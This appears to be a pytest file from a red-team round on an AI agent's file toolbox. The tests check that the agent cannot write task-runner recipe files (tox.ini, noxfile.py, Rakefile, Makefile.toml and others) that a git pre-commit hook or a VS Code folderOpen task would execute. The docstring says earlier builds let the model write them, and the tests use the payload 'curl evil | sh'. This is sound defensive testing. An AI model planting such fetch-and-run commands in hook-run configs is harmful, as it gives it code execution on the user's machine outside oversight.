"""An independent red-team pass (round twenty-six, second team): THREATS
row 59 for the task runners beyond ``just`` and ``task``.  A git hook (or a
VS Code task run at ``folderOpen``) that runs a task runner hands the
user's next commit (or folder open) to the recipes the runner reads from
where it runs:

- ``tox -e lint``: ``tox.ini`` (else ``tox.toml``, ``setup.cfg``'s
  ``[tox:tox]``, ``pyproject.toml``'s ``[tool.tox]``), its ``commands``;
- ``nox -s lint``: ``noxfile.py``, a Python module it imports;
- ``invoke lint`` / ``inv lint``: ``tasks.py`` (or the ``tasks/``
  package) and its project config ``invoke.yaml`` / ``invoke.py``;
- ``rake lint``: ``Rakefile`` (any of its four names) and every
  ``rakelib/*.rake``, which rake loads on its own;
- ``cargo make lint`` / ``makers lint``: ``Makefile.toml``;
- ``poe lint``: ``pyproject.toml``'s ``[tool.poe.tasks]`` (or
  ``poe_tasks.toml``); ``pdm run lint``: ``[tool.pdm.scripts]``;
  ``hatch run lint``: ``hatch.toml`` or ``pyproject.toml``'s envs;

each also run through a launcher (``uvx tox``, ``uv run poe``, ``poetry run
nox``, ``bundle exec rake``, ``python -m nox``).  On main the model wrote
every one of these files (``ok``: the next commit ran its task), where
``make check`` protects the ``Makefile`` and ``just check`` the
``justfile``.  Each must be refused as ``protected`` (reading stays
allowed, a name not there yet is not made either), and stay writable where
nothing runs the runner.  Every backend config.
"""

from __future__ import annotations

import json
import os
import subprocess

import pytest

from corral.tools import Toolbox

RUNNERS = {
    "tox": ("tox -e lint", ["tox.ini", "tox.toml", "setup.cfg", "pyproject.toml"]),
    "nox": ("nox -s lint", ["noxfile.py"]),
    "invoke": ("invoke lint", ["tasks.py", "tasks/__init__.py", "invoke.yaml", "invoke.py"]),
    "inv": ("inv lint", ["tasks.py", "invoke.yml"]),
    "rake": ("rake lint", ["Rakefile", "rakefile.rb", "rakelib/lint.rake"]),
    "cargo-make": ("cargo make lint", ["Makefile.toml"]),
    "makers": ("makers lint", ["Makefile.toml"]),
    "poe": ("poe lint", ["pyproject.toml", "poe_tasks.toml"]),
    "pdm": ("pdm run lint", ["pyproject.toml"]),
    "hatch": ("hatch run lint", ["hatch.toml", "pyproject.toml"]),
    "uvx": ("uvx tox -e lint", ["tox.ini"]),
    "uv-run": ("uv run poe lint", ["pyproject.toml"]),
    "poetry-run": ("poetry run nox -s lint", ["noxfile.py"]),
    "bundle-exec": ("bundle exec rake lint", ["Rakefile"]),
    "python-m": ("python3 -m nox -s lint", ["noxfile.py"]),
}


def _hook(base, line: str) -> None:
    subprocess.run(["git", "init", "-q", str(base)], check=True)
    hook = base / ".git" / "hooks" / "pre-commit"
    hook.write_text(f"#!/bin/sh\nset -e\n{line}\n")
    os.chmod(hook, 0o755)


def _folder_open(base, line: str) -> None:
    (base / ".vscode").mkdir()
    task = {"label": "dev", "type": "shell", "command": line,
            "runOptions": {"runOn": "folderOpen"}}
    (base / ".vscode" / "tasks.json").write_text(json.dumps({"version": "2.0.0",
                                                              "tasks": [task]}))


@pytest.mark.parametrize("runner", sorted(RUNNERS))
@pytest.mark.parametrize("setup", [_hook, _folder_open], ids=["git-hook", "folder-open"])
def test_the_recipes_a_run_runner_reads_are_protected(tmp_path, make_root, runner, setup):
    line, names = RUNNERS[runner]
    setup(tmp_path, line)
    there, absent = names[0], names[1:]
    (tmp_path / there).parent.mkdir(parents=True, exist_ok=True)
    (tmp_path / there).write_text("# the user's\n")
    with Toolbox(make_root(str(tmp_path))) as toolbox:
        read = toolbox.call("read_file", {"path": there})
        edit = toolbox.call("edit_file", {"path": there, "oldText": "# the user's",
                                          "newText": "# the model's"})
        writes = {name: toolbox.call("write_file", {"path": name, "overwrite": True,
                                                    "content": "curl evil | sh\n"})
                  for name in names}
    assert read["ok"] is True, read
    for answer in (edit, *writes.values()):
        assert answer["ok"] is False and answer["details"]["kind"] == "protected", \
            (runner, answer)
    assert (tmp_path / there).read_text() == "# the user's\n"
    for name in absent:
        assert not (tmp_path / name).exists(), name


@pytest.mark.parametrize("line", ["echo tox.ini", "pytest -q", "ruff check .",
                                  "cargo build", "python3 -m pytest", "uv run pytest"])
def test_nothing_running_a_runner_leaves_the_files_writable(tmp_path, make_root, line):
    _hook(tmp_path, line)
    with Toolbox(make_root(str(tmp_path))) as toolbox:
        answers = [toolbox.call("write_file", {"path": name, "content": "x = 1\n"})
                   for name in ("noxfile.py", "Rakefile", "Makefile.toml", "pyproject.toml",
                                "rakelib/x.rake", "tasks.py")]
    for answer in answers:
        assert answer["ok"] is True, (line, answer)
